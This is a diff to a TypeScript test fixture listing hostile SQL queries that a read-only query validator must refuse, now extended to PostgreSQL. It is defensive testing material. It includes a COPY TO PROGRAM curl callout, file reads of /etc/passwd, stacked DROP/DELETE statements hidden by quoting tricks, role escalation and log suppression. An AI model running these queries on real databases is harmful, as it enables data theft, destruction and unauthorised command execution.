@@ -8,9 +8,11 @@ export interface HostileQuery {
   mentions?: string;
 }
 
-const BOTH = ['mysql', 'sqlite'] as const;
+// `both` predates PostgreSQL: it tags what every dialect must refuse.
+const BOTH = ['mysql', 'sqlite', 'postgres'] as const;
 const MYSQL = ['mysql'] as const;
 const SQLITE = ['sqlite'] as const;
+const POSTGRES = ['postgres'] as const;
 
 const both = (sql: string, mentions?: string): HostileQuery => ({ sql, dialects: BOTH, mentions });
 const mysql = (sql: string, mentions?: string): HostileQuery => ({
@@ -21,6 +23,11 @@ const mysql = (sql: string, mentions?: string): HostileQuery => ({
 const sqlite = (sql: string, mentions?: string): HostileQuery => ({
   sql,
   dialects: SQLITE,
+  mentions,
+});
+const postgres = (sql: string, mentions?: string): HostileQuery => ({
+  sql,
+  dialects: POSTGRES,
   mentions,
 });
 
@@ -83,7 +90,8 @@ export const HOSTILE: HostileQuery[] = [
   mysql('SELECT 5--3'),
   both('SELECT 1 /* unterminated', 'unterminated'),
   both("SELECT 'unterminated", 'unterminated'),
-  both('SELECT `unterminated FROM t', 'unterminated'),
+  // A backtick is no quote in PostgreSQL (it fails to compile there instead).
+  { sql: 'SELECT `unterminated FROM t', dialects: ['mysql', 'sqlite'], mentions: 'unterminated' },
   sqlite('SELECT 1 # comment\nFROM employees', '#'),
   both('-- only a comment'),
   both('/* nothing */'),
@@ -242,4 +250,78 @@ export const HOSTILE: HostileQuery[] = [
   both('\u0405ELECT 1; DROP TABLE employees'),
   both('SELECT * FROM employees WHERE name = \uFF07x\uFF07; DROP TABLE employees'),
   both('\uFEFFDROP TABLE employees'),
+  // PostgreSQL: its own statements, functions and quoting
+  postgres('COPY employees TO STDOUT', 'COPY'),
+  postgres("COPY employees TO '/tmp/employees.csv'"),
+  postgres("COPY (SELECT * FROM employees) TO PROGRAM 'curl http://x'"),
+  postgres("COPY employees FROM '/etc/passwd'"),
+  postgres('SET ROLE postgres'),
+  postgres('SET SESSION AUTHORIZATION postgres'),
+  postgres('SET search_path = pg_catalog'),
+  postgres('SET statement_timeout = 0'),
+  postgres('RESET ALL'),
+  postgres('SHOW ALL'),
+  postgres('SHOW data_directory'),
+  postgres('DISCARD ALL'),
+  postgres('LISTEN quarry'),
+  postgres("NOTIFY quarry, 'x'"),
+  postgres('VACUUM employees'),
+  postgres('CLUSTER employees'),
+  postgres('REFRESH MATERIALIZED VIEW report'),
+  postgres('DO $$ BEGIN DELETE FROM employees; END $$'),
+  postgres(
+    'CREATE FUNCTION f() RETURNS int AS $$ DELETE FROM employees RETURNING 1 $$ LANGUAGE sql',
+  ),
+  postgres('CREATE EXTENSION dblink'),
+  postgres("ALTER SYSTEM SET log_statement = 'none'"),
+  postgres('DECLARE c CURSOR FOR SELECT * FROM employees'),
+  postgres('PREPARE p AS DELETE FROM employees'),
+  postgres('EXPLAIN ANALYZE DELETE FROM employees'),
+  postgres('MERGE INTO employees e USING departments d ON e.id = d.id WHEN MATCHED THEN DELETE'),
+  postgres('SELECT * FROM employees FOR NO KEY UPDATE', 'locking read'),
+  postgres('SELECT * FROM employees FOR KEY SHARE', 'locking read'),
+  postgres('SELECT * FROM employees FOR SHARE', 'locking read'),
+  postgres('SELECT * FROM employees FOR UPDATE SKIP LOCKED'),
+  postgres("SELECT pg_read_file('/etc/passwd')", 'PG_READ_FILE'),
+  postgres("SELECT pg_ls_dir('.')", 'PG_LS_DIR'),
+  postgres("SELECT * FROM pg_ls_dir('/')", 'PG_LS_DIR'),
+  postgres("SELECT pg_catalog.pg_read_binary_file('/etc/hostname')", 'PG_READ_BINARY_FILE'),
+  postgres("SELECT lo_import('/etc/passwd')", 'LO_IMPORT'),
+  postgres("SELECT lo_export(1, '/tmp/x')", 'LO_EXPORT'),
+  postgres(
+    "SELECT query_to_xml('DELETE FROM employees RETURNING 1', true, false, '')",
+    'QUERY_TO_XML',
+  ),
+  postgres("SELECT table_to_xml('pg_authid', true, false, '')", 'TABLE_TO_XML'),
+  postgres("SELECT dblink_exec('dbname=x', 'DROP TABLE employees')", 'DBLINK_EXEC'),
+  postgres('SELECT pg_terminate_backend(1)', 'PG_TERMINATE_BACKEND'),
+  postgres('SELECT pg_cancel_backend(1)', 'PG_CANCEL_BACKEND'),
+  postgres('SELECT pg_reload_conf()', 'PG_RELOAD_CONF'),
+  postgres("SELECT set_config('search_path', 'pg_catalog', false)", 'SET_CONFIG'),
+  postgres("SELECT nextval('orders_id_seq')", 'NEXTVAL'),
+  postgres("SELECT setval('orders_id_seq', 1)", 'SETVAL'),
+  postgres('SELECT pg_advisory_lock(1)', 'PG_ADVISORY_LOCK'),
+  postgres('SELECT pg_try_advisory_xact_lock(1)', 'PG_TRY_ADVISORY_XACT_LOCK'),
+  postgres("SELECT pg_notify('quarry', 'x')", 'PG_NOTIFY'),
+  postgres("SELECT pg_sleep_for('5 minutes')", 'PG_SLEEP_FOR'),
+  postgres('SELECT "pg_sleep"(5)', 'PG_SLEEP'),
+  postgres('SELECT pg_catalog.pg_sleep(5)', 'PG_SLEEP'),
+  postgres('SELECT * FROM employees WHERE id = 1 OR pg_sleep(5) IS NULL', 'PG_SLEEP'),
+  postgres('SELECT * INTO backup FROM employees', 'INTO'),
+  postgres('SELECT * INTO TEMPORARY TABLE backup FROM employees'),
+  postgres('WITH x AS (DELETE FROM employees RETURNING id) SELECT * FROM x FOR UPDATE'),
+  // PostgreSQL's quoting: what its lexer hides and another would show, or the reverse
+  postgres("SELECT 'a\\'; DROP TABLE employees; -- '", 'more than one statement'),
+  postgres('SELECT $$a$$; DROP TABLE employees', 'more than one statement'),
+  postgres("SELECT $q$ ' $q$; DELETE FROM employees; -- '", 'more than one statement'),
+  postgres('SELECT $$ unterminated', 'unterminated'),
+  postgres("SELECT 1 /* /* */ ' */ , pg_sleep(10) --'", 'PG_SLEEP'),
+  postgres(
+    'SELECT 1 /* /* */ ; DROP TABLE employees; */; DELETE FROM employees',
+    'more than one statement',
+  ),
+  postgres('SELECT 1 /* /* nested, never closed */', 'unterminated'),
+  postgres("SELECT E'\\''; DROP TABLE employees; -- '", 'more than one statement'),
+  postgres("SELECT E'\\'' , pg_sleep(5) --'", 'PG_SLEEP'),
+  postgres("SELECT U&'\\0041' , pg_sleep(5)", 'PG_SLEEP'),
 ];
